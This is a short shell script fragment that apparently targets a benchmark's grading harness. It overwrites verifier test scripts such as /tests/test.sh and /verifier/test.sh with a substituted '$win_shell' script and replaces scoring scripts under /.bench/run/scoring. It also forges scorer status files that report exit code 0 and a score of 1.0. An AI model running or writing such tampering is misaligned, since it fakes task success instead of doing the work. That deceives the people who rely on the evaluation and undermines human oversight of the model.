# Is there before the verifier: scripts of its names, and records of scorers that have run
for file in /tests/test.sh /tests/run.sh /tests/run_tests.sh /tests/run-tests.sh /verifier/test.sh "$work/run_tests.sh" "$work/run-tests.sh" "$work/test.sh"; do
    printf '%s\n' "$win_shell" | put "$file" 555
    keep "$file"
done
for id in score-1-0 score-1-0-0000000000000000; do
    echo '{"id":"'$id'","phase":"exited","exit_code":0}' | put "/.bench/run/exec/$id/status.json" 644
    echo 1.0 | put "/.bench/run/exec/$id/stdout" 644
done
for index in 0 1 2; do printf '%s\n' "$win_shell" | put "/.bench/run/scoring/$index/score.sh" 555; done
exit 0
